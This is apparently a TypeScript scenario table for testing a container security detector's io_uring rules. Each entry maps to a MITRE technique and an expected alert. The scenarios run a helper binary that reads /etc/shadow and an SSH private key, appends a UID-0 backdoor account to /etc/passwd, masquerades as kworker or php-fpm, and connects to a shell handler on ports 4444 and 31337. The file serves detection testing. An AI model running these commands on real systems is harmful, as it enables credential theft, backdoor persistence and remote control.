// SPDX-License-Identifier: Apache-2.0
/**
 * Scenarios of io_uring (issue 19, class 5); spread into ATTACKS by table.ts. Every operation goes
 * through a ring set up with the raw syscalls by `vigil-attack` (test/scenarios/attack-io-uring.c):
 * no openat/read/write/connect syscall is made for the file or the connection, and with an SQPOLL
 * ring not even io_uring_enter per request.
 */
import type { Scenario } from "./table.js";

const T = "/opt/tools";

export const ATTACKS_IO_URING: readonly Scenario[] = [
  // ---------------------------------------------------------------- setup by a program with no business using io_uring
  {
    name: "io_uring set up by a dropped tool in the web pod",
    technique: "T1562.006",
    pod: "web",
    expect: "io_uring Set Up By Unexpected Program In Container",
    cmd: `${T}/vigil-attack uring-read /etc/hostname`,
  },
  {
    name: "io_uring set up by a tool renamed like a system daemon, run as non-root",
    technique: "T1562.006",
    pod: "web",
    expect: "io_uring Set Up By Unexpected Program In Container",
    setup: `cp ${T}/vigil-attack /tmp/kworker && chmod 755 /tmp/kworker`,
    user: "1000",
    cmd: "/tmp/kworker uring-read /etc/hostname",
  },
  // ---------------------------------------------------------------- credential files read through a ring
  {
    name: "/etc/shadow opened and read through io_uring (io_uring_enter per request)",
    technique: "T1003.008",
    pod: "web",
    expect: "Shadow File Opened Through io_uring",
    setup: "[ -f /etc/shadow ] || echo 'root:*:19000:0:99999:7:::' > /etc/shadow",
    cmd: `${T}/vigil-attack uring-read /etc/shadow`,
  },
  {
    name: "/etc/shadow read through an SQPOLL ring (no syscall per request) in the privileged pod",
    technique: "T1003.008",
    pod: "priv",
    expect: "Shadow File Opened Through io_uring",
    setup: "[ -f /etc/shadow ] || echo 'root:*:19000:0:99999:7:::' > /etc/shadow",
    cmd: `${T}/vigil-attack uring-sqpoll /etc/shadow`,
  },
  {
    name: "SSH private key read through io_uring from a relative path",
    technique: "T1552.004",
    pod: "web",
    expect: "Credential File Opened Through io_uring",
    setup: "mkdir -p /home/app/.ssh && printf 'KEY\\n' > /home/app/.ssh/id_ed25519 && chmod 600 /home/app/.ssh/id_ed25519",
    cmd: `cd /home/app/.ssh && ${T}/vigil-attack uring-read id_ed25519`,
  },
  // ---------------------------------------------------------------- account database written through a ring
  {
    name: "backdoor account appended to /etc/passwd through io_uring",
    technique: "T1136.001",
    pod: "web",
    expect: "Account Database Opened For Writing Through io_uring",
    setup: "cp /etc/passwd /tmp/passwd.bak",
    cmd: `${T}/vigil-attack uring-write /etc/passwd 'svc-backup:x:0:0::/root:/bin/sh'; rc=$?; cat /tmp/passwd.bak > /etc/passwd; exit $rc`,
  },
  // ---------------------------------------------------------------- connections through a ring
  {
    name: "connect to the shell handler and send through io_uring",
    technique: "T1095",
    pod: "web",
    expect: "Outbound Connection Through io_uring",
    cmd: `${T}/vigil-attack uring-connect $HOST 4444 'id'`,
  },
  {
    name: "connect through io_uring from a copy named like a web server worker",
    technique: "T1095",
    pod: "priv",
    expect: "Outbound Connection Through io_uring",
    setup: `cp ${T}/vigil-attack /tmp/php-fpm`,
    cmd: "/tmp/php-fpm uring-connect $HOST 31337",
  },
];
